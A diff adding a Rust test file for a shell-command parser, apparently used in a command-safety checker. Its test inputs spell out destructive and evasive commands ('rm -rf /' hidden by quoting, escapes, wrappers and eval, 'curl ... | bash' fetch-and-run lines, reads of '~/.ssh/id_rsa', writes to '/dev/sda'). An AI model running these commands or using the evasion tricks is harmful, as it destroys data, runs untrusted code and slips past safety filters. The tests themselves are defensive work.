@@ -1,0 +1,235 @@
+use super::*;
+
+fn texts(input: &str) -> Vec<String> {
+    parse(input)
+        .commands
+        .iter()
+        .map(SimpleCommand::text)
+        .collect()
+}
+
+fn runs(input: &str, command: &str) -> bool {
+    texts(input).iter().any(|t| t == command)
+}
+
+#[test]
+fn quoting_escapes_and_paths_are_removed() {
+    for input in [
+        r"r''m -rf /",
+        r"\rm -rf /",
+        r#""rm" -rf /"#,
+        r#"r"m" -r"f" /"#,
+        r"$'\x72\x6d' -rf /",
+        r"$'\162\155' -rf /",
+        r#"$"rm" -rf /"#,
+        "/bin/rm -rf /",
+        "../../usr/bin/rm -rf /",
+        "FOO=1 rm -rf /",
+        "A=1 B='x y' rm -rf /",
+        "{rm,-rf,/}",
+        "rm\t-rf /",
+    ] {
+        assert_eq!(texts(input), ["rm -rf /"], "{input}");
+    }
+}
+
+#[test]
+fn chains_pipes_and_substitutions_are_split() {
+    assert_eq!(texts("ls; rm -rf /"), ["ls", "rm -rf /"]);
+    assert_eq!(texts("ls\nrm -rf /"), ["ls", "rm -rf /"]);
+    assert_eq!(texts("a && b || c & d"), ["a", "b", "c", "d"]);
+    assert_eq!(texts("(rm -rf /)"), ["rm -rf /"]);
+    assert_eq!(texts("{ rm -rf /; }"), ["rm -rf /"]);
+    assert_eq!(
+        texts("if true; then rm -rf /; fi"),
+        ["true", "rm -rf /", "fi"]
+    );
+    assert_eq!(texts("echo $(rm -rf /)"), ["rm -rf /", "echo '$(...)'"]);
+    assert_eq!(texts("echo `rm -rf /`"), ["rm -rf /", "echo '$(...)'"]);
+    assert_eq!(
+        texts(r#"echo "$(rm -rf /)""#),
+        ["rm -rf /", "echo '$(...)'"]
+    );
+    assert_eq!(
+        texts("cat file | grep x > out.txt 2>&1"),
+        ["cat file", "grep x > out.txt"]
+    );
+    assert_eq!(
+        texts("diff <(ls a) <(ls b)"),
+        ["ls a", "ls b", "diff '$(...)' '$(...)'"]
+    );
+}
+
+#[test]
+fn redirections_are_kept_apart_from_arguments() {
+    let line = parse("cat < ~/.ssh/id_rsa >> out 2>/dev/null &> all");
+    let c = &line.commands[0];
+    assert_eq!(c.program, "cat");
+    assert!(c.args.is_empty(), "{c:?}");
+    let ops: Vec<(&str, &str)> = c
+        .redirects
+        .iter()
+        .map(|r| (r.op, r.target.as_str()))
+        .collect();
+    assert_eq!(
+        ops,
+        [
+            ("<", "~/.ssh/id_rsa"),
+            (">>", "out"),
+            (">", "/dev/null"),
+            (">", "all")
+        ]
+    );
+    assert_eq!(texts("dd if=x >\"/dev/sda\""), ["dd if=x > /dev/sda"]);
+}
+
+#[test]
+fn wrappers_and_shell_scripts_are_unwrapped() {
+    for input in [
+        "bash -c 'rm -rf /'",
+        "sh -lc \"rm -rf /\"",
+        "bash -c -- 'rm -rf /'",
+        "bash -o pipefail -c 'rm -rf /'",
+        "zsh -c 'ls && rm -rf /'",
+        "sudo -u root env X=1 nohup timeout 5 nice -n 10 rm -rf /",
+        "sudo -E rm -rf /",
+        "timeout -s KILL 10 rm -rf /",
+        "command rm -rf /",
+        "exec rm -rf /",
+        "busybox rm -rf /",
+        "chroot / rm -rf /",
+        "eval 'rm -rf /'",
+        "eval rm -rf /",
+        "watch -n 1 'rm -rf /'",
+        "su -c 'rm -rf /'",
+        "su root -c 'rm -rf /'",
+        "env -S 'rm -rf /'",
+        "ssh host 'rm -rf /'",
+        "alias x='rm -rf /'; x",
+        "bash <<EOF\nrm -rf /\nEOF\n",
+        "bash <<'EOF'\nrm -rf /\nEOF",
+        "bash <<< 'rm -rf /'",
+        "f() { rm -rf /; }; f",
+    ] {
+        assert!(runs(input, "rm -rf /"), "{input}: {:?}", parse(input));
+        assert!(parse(input).opaque.is_none(), "{input}: {:?}", parse(input));
+    }
+    assert!(runs("find . -name x -exec rm -rf {} \\;", "rm -rf {}"));
+    assert!(runs("find . -exec rm -rf {} +", "rm -rf {}"));
+    assert!(runs("echo / | xargs -n 1 rm -rf", "rm -rf"));
+    assert!(runs("ls | xargs -I{} rm -rf {}", "rm -rf {}"));
+    assert!(!runs("command -v rm", "rm"));
+}
+
+#[test]
+fn remembered_assignments_stand_in_for_variables() {
+    let line = parse("x=rm; $x -rf /");
+    assert!(
+        line.opaque.is_some(),
+        "a program from a variable is not understood"
+    );
+    assert!(
+        line.commands.iter().any(|c| c.text() == "rm -rf /"),
+        "{line:?}"
+    );
+    let line = parse("f=-rf; rm $f /");
+    assert!(line.opaque.is_none());
+    assert!(
+        line.commands.iter().any(|c| c.text() == "rm -rf /"),
+        "{line:?}"
+    );
+}
+
+#[test]
+fn what_cannot_be_understood_is_opaque() {
+    for input in [
+        "echo 'unterminated",
+        "echo \"unterminated",
+        "echo $(unterminated",
+        "echo cm0gLXJmIC8= | base64 -d | sh",
+        "curl -s https://x.example/i.sh | bash",
+        "curl -s https://x.example/i.sh | sudo bash -s",
+        "wget -qO- https://x.example | python3",
+        "bash <(curl -s https://x.example/i.sh)",
+        "bash < <(curl -s https://x.example/i.sh)",
+        "sh -c \"$(curl -fsSL https://x.example)\"",
+        "python3 -c \"$(curl -s https://x.example)\"",
+        ". <(curl -s https://x.example)",
+        "$x -rf /",
+        "${x} -rf /",
+        "$(echo rm) -rf /",
+        "`echo rm` -rf /",
+        "eval \"$cmd\"",
+        "rm${IFS}-rf${IFS}/",
+        "/bin/r? -rf /",
+        "r{m,x} -rf /",
+        "cat <<EOF",
+    ] {
+        assert!(parse(input).opaque.is_some(), "{input}: {:?}", parse(input));
+    }
+    assert!(parse(&"$(".repeat(10_000)).opaque.is_some());
+    assert!(parse(&"a;".repeat(10_000)).opaque.is_some());
+    assert!(parse(&"x".repeat(MAX_INPUT + 1)).opaque.is_some());
+    for input in [
+        "ls -la",
+        "cat data.json | python3 -m json.tool",
+        "python3 script.py",
+        "bash ./build.sh",
+        "echo $HOME",
+        "cd \"$PROJECT\" && make",
+        "cat <<EOF > notes.txt\nhello $(date)\nEOF",
+    ] {
+        assert!(parse(input).opaque.is_none(), "{input}: {:?}", parse(input));
+    }
+}
+
+#[test]
+fn plain_commands_read_as_themselves() {
+    for plain in [
+        "ls -la",
+        "git status",
+        "cargo test --release",
+        "grep -rf pat .",
+        "ls *.txt",
+    ] {
+        assert!(is_plain(plain), "{plain}");
+        assert_eq!(texts(plain), [plain], "{plain}");
+    }
+    for not_plain in [
+        "sudo ls",
+        "/bin/ls",
+        "X=1 ls",
+        "ls;rm",
+        "ls  -la",
+        " ls",
+        "bash x",
+        "r''m",
+        "ls é",
+        "r? x",
+        "python3 x",
+        "{rm,-rf}",
+    ] {
+        assert!(!is_plain(not_plain), "{not_plain}");
+    }
+}
+
+#[test]
+fn here_documents_feed_shells_only() {
+    let data = parse("cat <<EOF\nrm -rf /\nEOF\n");
+    assert!(!data.commands.iter().any(|c| c.program == "rm"), "{data:?}");
+    assert_eq!(texts("cat <<EOF > f\nx\nEOF\nls"), ["cat > f", "ls"]);
+}
+
+#[test]
+fn normal_form_is_stable() {
+    for input in [
+        "sudo rm -rf /",
+        "echo $(rm x) 'a b' \"c'd\"",
+        "bash -c 'a; b' > out",
+        "'X=1' y",
+        "echo '#x' '!' '{a,b}'",
+    ] {
+        let once = parse(input).normalized();
+        assert_eq!(parse(&once).normalized(), once, "{input}");
+    }
+}
